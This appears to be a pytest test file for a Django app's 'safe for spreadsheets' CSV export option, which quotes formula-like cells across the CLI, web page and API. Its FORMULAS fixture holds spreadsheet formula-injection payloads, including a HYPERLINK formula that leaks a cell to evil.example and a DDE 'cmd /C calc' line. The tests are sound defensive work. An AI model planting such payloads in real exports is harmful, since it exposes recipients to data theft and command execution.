"""The "safe for spreadsheets" CSV option: formula-like cells get a leading ``'``.

Real files: each test exports, reads the CSV back with the csv module and checks the cells.
"""

import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from annotator.datasets.card import dataset_card
from annotator.datasets.exporters import csv as csv_exporter
from annotator.datasets.models import ExportJob
from annotator.datasets.options import ExportFormat, ExportOptions
from annotator.datasets.rows import RowSource
from tests.factories import ArticleFactory, make_comment, make_token

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["plain words", "'already quoted", " =not first", "a=b", "100%"]


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def hostile(project):
    article = ArticleFactory(project=project, source_id="a1")
    for n, text in enumerate(FORMULAS + HARMLESS):
        make_comment(article, source_id=f"c{n}", text=text, author="@SUM(1+1)")
    return project


def export_rows(project, tmp_path: Path, **options) -> list[dict]:
    path = tmp_path / "comments.csv"
    with path.open("wb") as out:
        csv_exporter.write(RowSource(project, ExportOptions(format="csv", **options)), out)
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def read_zip(data: bytes) -> tuple[list[dict], str]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    name = next(name for name in archive.namelist() if name.endswith(".csv"))
    text = archive.read(name).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline=""))), archive.read("README.md").decode()


def test_by_default_texts_are_verbatim(hostile, tmp_path):
    rows = export_rows(hostile, tmp_path)
    assert [row["text"] for row in rows] == FORMULAS + HARMLESS
    assert {row["author"] for row in rows} == {"@SUM(1+1)"}


def test_safe_cells_start_with_a_quote_and_keep_the_rest(hostile, tmp_path):
    rows = export_rows(hostile, tmp_path, spreadsheet_safe=True)
    texts = [row["text"] for row in rows]
    assert texts[: len(FORMULAS)] == ["'" + text for text in FORMULAS]
    assert texts[len(FORMULAS) :] == HARMLESS
    assert {row["author"] for row in rows} == {"'@SUM(1+1)"}
    # Numbers are not text: depth and position stay plain.
    assert {row["depth"] for row in rows} == {"0"}


def test_the_card_says_which_was_chosen(hostile, tmp_path):
    for safe, words in ((False, "texts are verbatim"), (True, "start with an added `'`")):
        source = RowSource(hostile, ExportOptions(format="csv", spreadsheet_safe=safe))
        with (tmp_path / "c.csv").open("wb") as out:
            csv_exporter.write(source, out)
        card = dataset_card(source, data_file="comments.csv", exported_at=_now())
        assert f"spreadsheet-safe cells: {'yes' if safe else 'no'}" in card
        assert words in card


def test_the_card_of_another_format_does_not_mention_it(hostile, tmp_path):
    source = RowSource(hostile, ExportOptions(format="jsonl"))
    list(source.comments())
    card = dataset_card(source, data_file="comments.jsonl", exported_at=_now())
    assert "spreadsheet-safe" not in card


def test_the_command_line_has_the_option(hostile, tmp_path):
    target = tmp_path / "safe.zip"
    call_command(
        "export_corpus",
        "--project",
        hostile.slug,
        "--format",
        "csv",
        "--spreadsheet-safe",
        "--output",
        str(target),
        stdout=io.StringIO(),
    )
    rows, card = read_zip(target.read_bytes())
    assert rows[0]["text"] == "'" + FORMULAS[0]
    assert "spreadsheet-safe cells: yes" in card
    assert ExportJob.objects.get().options["spreadsheet_safe"] is True


def test_the_export_page_offers_it_and_the_download_is_safe(hostile, researcher, client):
    client.force_login(researcher)
    url = reverse("datasets:export_list", args=[hostile.slug])
    html = client.get(url).content.decode()
    assert "Safe for spreadsheets (CSV)" in html
    response = client.post(
        url,
        {
            "format": "csv",
            "questions": ["stance_article", "stance_parent", "claim_type", "speculation"],
            "labels": "all",
            "include_unlabelled": "on",
            "spreadsheet_safe": "on",
        },
    )
    assert response.status_code == 302
    job = ExportJob.objects.get()
    assert "safe for spreadsheets" in job.options_summary()
    download = client.get(reverse("datasets:export_download", args=[hostile.slug, job.pk]))
    rows, card = read_zip(b"".join(download.streaming_content))
    assert [row["text"] for row in rows][:2] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
    assert "spreadsheet-safe cells: yes" in card


def test_the_api_export_options_have_it(hostile, researcher):
    api = Client(headers={"authorization": f"Token {make_token(researcher)}"})
    url = f"/api/projects/{hostile.slug}/exports/"
    response = api.post(
        url, {"format": "csv", "spreadsheet_safe": True}, content_type="application/json"
    )
    assert response.status_code in (201, 202), response.content
    job = ExportJob.objects.get()
    assert ExportOptions.from_json(job.options).spreadsheet_safe is True


def test_the_api_refuses_a_non_boolean(hostile, researcher):
    api = Client(headers={"authorization": f"Token {make_token(researcher)}"})
    response = api.post(
        f"/api/projects/{hostile.slug}/exports/",
        {"format": "csv", "spreadsheet_safe": "yes"},
        content_type="application/json",
    )
    assert response.status_code == 400
    assert "spreadsheet_safe" in response.json()


def test_old_jobs_without_the_option_read_as_verbatim():
    options = ExportOptions.from_json({"format": "csv"})
    assert options.spreadsheet_safe is False
    assert ExportOptions(format=ExportFormat.CSV).to_json()["spreadsheet_safe"] is False


def _now():
    from django.utils import timezone

    return timezone.now()
